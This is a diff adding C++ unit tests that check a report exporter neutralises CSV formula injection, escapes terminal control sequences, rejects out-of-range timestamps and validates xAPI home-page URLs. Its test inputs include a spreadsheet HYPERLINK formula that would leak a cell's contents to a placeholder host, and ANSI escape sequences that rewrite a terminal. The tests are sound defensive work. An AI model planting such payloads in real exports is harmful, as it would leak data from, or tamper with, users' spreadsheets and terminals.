@@ -206,5 +206,88 @@ TEST(ReportsExport, XapiScoresStayInRange) {
     EXPECT_NE(json.find("\"scaled\": 1, \"raw\": 10, \"min\": 0, \"max\": 10"), std::string::npos) << json;
 }
 
+// OWASP CSV injection: cells a spreadsheet would run as a formula get a leading apostrophe and quotes.
+TEST(ReportsRender, CsvFieldsNeutraliseFormulas) {
+    EXPECT_EQ(CsvField("=HYPERLINK(\"http://x/?\"&A1,\"click\")"), "\"'=HYPERLINK(\"\"http://x/?\"\"&A1,\"\"click\"\")\"");
+    EXPECT_EQ(CsvField("=1+1"), "\"'=1+1\"");
+    EXPECT_EQ(CsvField("+1+1"), "\"'+1+1\"");
+    EXPECT_EQ(CsvField("-1+1"), "\"'-1+1\"");
+    EXPECT_EQ(CsvField("@SUM(A1)"), "\"'@SUM(A1)\"");
+    EXPECT_EQ(CsvField("\tx"), "\"'\tx\"");
+    EXPECT_EQ(CsvField("\rx"), "\"'\rx\"");
+    EXPECT_EQ(CsvField("  =1+1"), "\"'  =1+1\"");
+    // Numbers SupportLab writes stay numbers.
+    EXPECT_EQ(CsvField("-0.25"), "-0.25");
+    EXPECT_EQ(CsvField("-12"), "-12");
+    EXPECT_EQ(CsvField("-1e-05"), "-1e-05");
+    EXPECT_EQ(CsvField("-"), "\"'-\"");
+    EXPECT_EQ(CsvField("a=b"), "a=b");
+}
+
+TEST(ReportsRender, EveryCsvNeutralisesNamesAndCohorts) {
+    ExportData d = SampleExport();
+    d.m_trainees[0].m_name = "=HYPERLINK(\"http://x/?\"&A1,\"click\")";
+    d.m_trainees[0].m_cohort = "=1+1";
+    const std::string csv = ExportCsv(d);
+    EXPECT_NE(csv.find(",\"'=HYPERLINK("), std::string::npos) << csv;
+    EXPECT_NE(csv.find(",\"'=1+1\","), std::string::npos) << csv;
+    ReportTable t;
+    t.m_columns = {{"name", "Name", ColumnUse::Both}};
+    t.m_rows = {{ReportCell::Text("@cmd")}, {ReportCell::Number(-0.5, 2)}};
+    EXPECT_EQ(RenderCsv(t), "name\r\n\"'@cmd\"\r\n-0.50\r\n");
+}
+
+TEST(ReportsRender, TextTablesNeverPrintControlCharacters) {
+    ReportTable t;
+    t.m_title = "Matrix \x1b]0;owned\x07";
+    t.m_columns = {{"name", "Name \x1b[1m", ColumnUse::Both}};
+    t.m_rows = {{ReportCell::Text("Ana\x1b[2J\x1b[31m")}, {ReportCell::Text(std::string("bad\xff", 4))}};
+    t.m_notes = {"note \x9b"};
+    const std::string text = RenderText(t);
+    for (char c : text) EXPECT_TRUE(c == '\n' || static_cast<unsigned char>(c) >= 0x20) << text;
+    EXPECT_NE(text.find("Ana\\x1b[2J\\x1b[31m"), std::string::npos) << text;
+    EXPECT_NE(text.find("bad\\xff"), std::string::npos) << text;
+}
+
+TEST(ReportsExport, XapiScenarioWithNothingToScoreHasNoScore) {
+    ExportData d;
+    d.m_trainees = {{1, "Ana", ""}};
+    Attempt a = MakeAttempt(1, 1, "s", 0, 1, 1000, 2000);
+    a.m_max = 0.0; // finished, but nothing to score
+    d.m_attempts = {a};
+    const std::string json = ExportXapi(d);
+    EXPECT_TRUE(ValidJson(json)) << json;
+    EXPECT_EQ(json.find("\"score\""), std::string::npos) << json;
+    EXPECT_NE(json.find("\"result\": {\"success\""), std::string::npos) << json;
+}
+
+TEST(ReportsExport, OutOfRangeTimesAreRefusedNeverWritten) {
+    for (WallTime bad : {WallTime{-1}, kMaxExportWallTime + 1, WallTime{INT64_MAX}}) {
+        SCOPED_TRACE(bad);
+        ExportData d;
+        d.m_trainees = {{1, "Ana", ""}};
+        d.m_attempts = {MakeAttempt(1, 1, "s", 5, 10, 1000, bad)};
+        EXPECT_THROW(ExportXapi(d), ExportError);
+        EXPECT_THROW(ExportCsv(d), ExportError);
+        EXPECT_THROW(ExportJson(d), ExportError);
+        d.m_attempts = {MakeAttempt(1, 1, "s", 5, 10, bad, 1000)};
+        EXPECT_THROW(ExportXapi(d), ExportError);
+    }
+    ExportData edge;
+    edge.m_trainees = {{1, "Ana", ""}};
+    edge.m_attempts = {MakeAttempt(1, 1, "s", 5, 10, 0, kMaxExportWallTime)};
+    EXPECT_NE(ExportXapi(edge).find("\"timestamp\": \"9999-12-31T23:59:59.999Z\""), std::string::npos);
+}
+
+TEST(ReportsExport, HomePageMustBeAFullUrl) {
+    for (const char* ok : {"https://lrs.example.org", "http://localhost:8080/xapi/", "https://a.b-c.example/p/q"})
+        EXPECT_EQ(HomePageProblem(ok), std::nullopt) << ok;
+    for (const char* bad : {"lrs", "https://", "http:///path", "https://host name", "https://h.example/\"x",
+                            "https://h.example:0", "https://h.example:99999", "https://.example", "ftp://h.example",
+                            "https://h.example/?q=1", "https://h..example", "https://h.example/\x1b"})
+        EXPECT_NE(HomePageProblem(bad), std::nullopt) << bad;
+    EXPECT_THROW(ExportXapi(SampleExport(), "https://"), ExportError);
+}
+
 } // namespace
 } // namespace sl::test
